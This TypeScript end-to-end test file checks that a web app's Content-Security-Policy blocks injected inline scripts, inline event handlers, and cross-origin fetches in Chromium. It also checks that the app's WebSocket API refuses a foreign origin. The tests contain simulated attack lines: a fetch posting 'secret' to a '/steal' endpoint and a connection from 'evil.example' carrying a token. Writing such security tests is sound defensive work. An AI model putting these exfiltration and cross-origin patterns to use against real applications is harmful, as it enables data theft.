// What the served app's Content-Security-Policy really does in a real Chromium (not what the source
// text says): the header is there, an injected inline script does not run, a fetch to another
// origin is blocked, and the API's WebSocket refuses a page of a foreign origin even with the token.
import WebSocket from 'ws';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openApp, startSession, type E2eSession } from './support/session.js';

let s: E2eSession;
beforeAll(async () => {
  s = await startSession();
}, 300_000);
afterAll(async () => {
  await s?.close();
});

describe('the served app under its CSP, in Chromium', () => {
  it('is served with a strict Content-Security-Policy header', async () => {
    const response = await s.page.goto(`${s.host.url}#/new`);
    await s.page.locator('.app').waitFor();
    const csp = response!.headers()['content-security-policy'] ?? '';
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("script-src 'self'");
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
  });

  it('blocks an injected inline script and reports the violation', async () => {
    await openApp(s);
    const outcome = await s.page.evaluate(
      () =>
        new Promise<{ ran: boolean; violated: string | null }>((resolve) => {
          const w = window as unknown as { __injected?: boolean };
          let violated: string | null = null;
          document.addEventListener('securitypolicyviolation', (e) => (violated = e.violatedDirective), { once: true });
          const el = document.createElement('script');
          el.textContent = 'window.__injected = true;';
          document.body.appendChild(el);
          setTimeout(() => resolve({ ran: w.__injected === true, violated }), 300);
        }),
    );
    expect(outcome.ran).toBe(false);
    expect(outcome.violated).toMatch(/^script-src/);
  });

  it('blocks a fetch to another origin (no data leaves through the page)', async () => {
    await openApp(s);
    const outcome = await s.page.evaluate(async () => {
      let violated: string | null = null;
      document.addEventListener('securitypolicyviolation', (e) => (violated = e.violatedDirective));
      try {
        await fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'secret' });
        return { fetched: true, violated };
      } catch {
        await new Promise((r) => setTimeout(r, 100));
        return { fetched: false, violated };
      }
    });
    expect(outcome.fetched).toBe(false);
    expect(outcome.violated).toMatch(/^connect-src/);
  });

  it('blocks inline event handlers too', async () => {
    await openApp(s);
    // (eval can't be tried from here: code the test runner evaluates through DevTools is exempt from
    // the page's CSP. The header test above checks that the policy has no 'unsafe-eval'.)
    const clicked = await s.page.evaluate(() => {
      const div = document.createElement('div');
      div.setAttribute('onclick', 'window.__clicked = true');
      document.body.appendChild(div);
      div.click();
      return (window as unknown as { __clicked?: boolean }).__clicked === true;
    });
    expect(clicked).toBe(false);
  });

  it('refuses the API WebSocket for a foreign Origin, even with the token', async () => {
    const url = `${s.origin.replace(/^http/, 'ws')}/api`;
    const attempt = (origin: string) =>
      new Promise<string>((resolve) => {
        const ws = new WebSocket(url, { headers: { Authorization: `Bearer ${s.host.token}`, Origin: origin } });
        ws.on('open', () => {
          ws.close();
          resolve('open');
        });
        ws.on('unexpected-response', (_req, res) => resolve(`refused ${res.statusCode}`));
        ws.on('error', () => resolve('error'));
      });
    expect(await attempt('http://evil.example')).toMatch(/^refused 40[13]$/);
    expect(await attempt(s.origin)).toBe('open');
  });
});
